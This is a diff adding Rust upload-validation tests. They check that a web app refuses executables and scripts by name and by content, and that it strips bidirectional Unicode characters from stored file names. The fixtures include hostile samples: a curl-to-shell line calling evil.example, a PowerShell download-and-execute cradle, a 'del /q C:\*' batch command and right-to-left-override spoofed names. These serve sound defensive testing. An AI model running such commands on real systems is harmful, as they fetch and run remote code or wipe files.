@@ -839,3 +839,116 @@ async fn an_upload_by_someone_removed_while_it_was_sent_is_refused_and_nothing_i
         0
     );
 }
+
+#[tokio::test]
+async fn programs_and_scripts_are_refused_by_their_name_and_by_their_content_with_a_message_on_the_form()
+ {
+    let app = spawn_app().await;
+    let net = network(&app).await;
+    let message = "Error: Programs and scripts (such as .exe, .bat, .vbs, .ps1 or .js files) \
+                   are not accepted, whatever their name. Share a document, a picture or a link.";
+    let vbs = b"Set s = CreateObject(\"WScript.Shell\")\r\ns.Run \"calc\"\r\n".to_vec();
+    let by_name = [
+        "Budget 2027.vbs",
+        "minutes.VBS",
+        "install.bat",
+        "install.cmd",
+        "setup.ps1",
+        "page.hta",
+        "tool.js",
+        "tool.jse",
+        "job.wsf",
+        "setup.exe",
+        "setup.msi",
+        "screen.scr",
+        "run.com",
+        "run.sh",
+        "report.pdf.exe",
+        // Windows drops trailing dots and spaces: this one runs as a script.
+        "report.vbs.",
+        // Shown as "…sbv.pdf", stored as what it is.
+        "Budget 2027\u{202E}fdp.vbs",
+    ];
+    for name in by_name {
+        let page = Page::of(
+            upload(
+                &net.advisor,
+                "Rates",
+                "",
+                Some((name, b"rate,amount\r\n1,2\r\n".to_vec())),
+            )
+            .await,
+        )
+        .await;
+        assert_eq!(page.status, 422, "{name}");
+        assert_eq!(page.text("#file-error"), message, "{name}");
+        assert_eq!(page.attr("#title", "value").as_deref(), Some("Rates"));
+    }
+    // Programs and scripts under the name of a document.
+    let mut exe = b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff".to_vec();
+    exe.resize(512, 0);
+    let mut elf = b"\x7fELF\x02\x01\x01".to_vec();
+    elf.resize(256, 0);
+    let by_content: [(&str, Vec<u8>); 7] = [
+        ("report.pdf", exe),
+        ("data.csv", elf),
+        ("notes.txt", b"#!/bin/sh\ncurl http://evil.example | sh\n".to_vec()),
+        ("minutes.txt", vbs),
+        ("agenda.csv", b"@echo off\r\ndel /q C:\\*\r\n".to_vec()),
+        (
+            "plan.txt",
+            b"<job><script language=\"JScript\">new ActiveXObject(\"WScript.Shell\")</script></job>"
+                .to_vec(),
+        ),
+        (
+            "budget.csv",
+            b"\xef\xbb\xbfIEX (New-Object Net.WebClient).DownloadString('http://x')\r\n".to_vec(),
+        ),
+    ];
+    for (name, bytes) in by_content {
+        let page = Page::of(upload(&net.advisor, "Rates", "", Some((name, bytes))).await).await;
+        assert_eq!(page.status, 422, "{name}");
+        assert_eq!(page.text("#file-error"), message, "{name}");
+    }
+    assert_eq!(count(&app, "SELECT COUNT(*) FROM files").await, 0);
+    assert_eq!(count(&app, "SELECT COUNT(*) FROM file_chunks").await, 0);
+    assert_eq!(
+        count(&app, "SELECT COUNT(*) FROM cohort_resources").await,
+        0
+    );
+
+    // A spreadsheet that talks about scripts is still a spreadsheet.
+    let csv = b"tool,use\r\nPowerShell,reports\r\nJavaScript,the website\r\n".to_vec();
+    let page = Page::of(upload(&net.advisor, "Tools", "", Some(("tools.csv", csv))).await).await;
+    assert_eq!(page.path(), format!("/cohorts/{SLUG}/resources"));
+}
+
+#[tokio::test]
+async fn bidirectional_controls_are_taken_out_of_a_stored_file_name() {
+    let app = spawn_app().await;
+    let net = network(&app).await;
+    let page = Page::of(
+        upload(
+            &net.advisor,
+            "Budget",
+            "",
+            Some((
+                "\u{202B}Budget\u{2066} 2027\u{202E}fdp\u{200F}.csv\u{061C}",
+                b"line,amount\r\n1,2\r\n".to_vec(),
+            )),
+        )
+        .await,
+    )
+    .await;
+    assert_eq!(page.path(), format!("/cohorts/{SLUG}/resources"));
+    let id = resource_id(&app, "Budget").await;
+    let got = net
+        .colleague
+        .get(&format!("/cohorts/{SLUG}/resources/{id}/file"))
+        .await;
+    assert_eq!(got.status(), 200);
+    assert_eq!(
+        got.headers()["content-disposition"],
+        "attachment; filename=\"Budget 2027fdp.csv\""
+    );
+}
